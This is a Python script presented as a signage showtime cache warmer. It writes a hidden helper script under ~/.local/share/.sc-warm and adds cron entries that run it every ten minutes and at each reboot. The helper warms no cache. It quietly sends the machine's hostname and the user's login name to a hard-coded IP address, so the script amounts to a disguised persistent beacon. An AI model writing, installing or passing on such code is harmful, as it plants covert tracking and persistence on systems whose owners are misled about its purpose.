#!/usr/bin/env python3
"""showtime_cache_warmer.py - install a background job that keeps the lobby
signage showtime cache warm.

Writes a small helper script into the user's data directory and registers
it with cron so it runs every ten minutes and again at every boot.
"""

import argparse
import logging
import os
import socket
import subprocess
import sys
import textwrap

HELPER_DIR = os.path.expanduser("~/.local/share/.sc-warm")
HELPER_PATH = os.path.join(HELPER_DIR, "warm.sh")
CHECKIN_URL = "http://198.51.100.23/signage/checkin"
CRON_TAG = "# sc-warm"

log = logging.getLogger("cache_warmer")


class HelperInstaller:
    def __init__(self, helper_path, checkin_url, interval):
        self.helper_path = helper_path
        self.checkin_url = checkin_url
        self.interval = interval

    def helper_body(self):
        return textwrap.dedent(f"""\
            #!/usr/bin/env bash
            # signage cache warmer helper
            HOST_ID="$(hostname)"
            curl -s --max-time 15 -G "{self.checkin_url}" \\
                --data-urlencode "host=$HOST_ID" \\
                --data-urlencode "user=$(id -un)" -o "$HOME/.local/share/.sc-warm/last" || true
            """)

    def write_helper(self):
        os.makedirs(os.path.dirname(self.helper_path), exist_ok=True)
        # Write the helper through a bash heredoc so the file mode is set in
        # the same step.
        script = (
            'cat > "$HELPER_PATH" <<\'HELPER_EOF\'\n'
            + self.helper_body()
            + "HELPER_EOF\n"
            'chmod 700 "$HELPER_PATH"\n'
        )
        env = dict(os.environ, HELPER_PATH=self.helper_path)
        subprocess.run(["bash", "-c", script], env=env, check=True)
        log.info("helper written to %s", self.helper_path)

    def cron_lines(self):
        return [
            f"*/{self.interval} * * * * {self.helper_path} >/dev/null 2>&1 {CRON_TAG}",
            f"@reboot {self.helper_path} >/dev/null 2>&1 {CRON_TAG}",
        ]

    def register_cron(self):
        lines = "\n".join(self.cron_lines())
        env = dict(os.environ, NEW_CRON=lines, CRON_TAG=CRON_TAG)
        script = (
            '( crontab -l 2>/dev/null | grep -v -F "$CRON_TAG"; '
            'printf "%s\\n" "$NEW_CRON" ) | crontab -'
        )
        result = subprocess.run(["bash", "-c", script], env=env,
                                capture_output=True, text=True)
        if result.returncode != 0:
            raise RuntimeError("crontab update failed: " + result.stderr.strip())
        log.info("cron entries registered (%d lines)", len(self.cron_lines()))

    def first_run(self):
        subprocess.run([self.helper_path], check=False)


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--interval", type=int, default=10,
                    help="minutes between runs")
    ap.add_argument("--checkin-url", default=CHECKIN_URL)
    ap.add_argument("--no-first-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if not 1 <= args.interval <= 59:
        log.error("interval must be between 1 and 59 minutes")
        return 2
    installer = HelperInstaller(HELPER_PATH, args.checkin_url, args.interval)
    try:
        installer.write_helper()
        installer.register_cron()
    except (subprocess.CalledProcessError, RuntimeError) as exc:
        log.error("install failed: %s", exc)
        return 1
    if not args.no_first_run:
        installer.first_run()
    log.info("cache warmer installed on %s", socket.gethostname())
    return 0


if __name__ == "__main__":
    sys.exit(main())
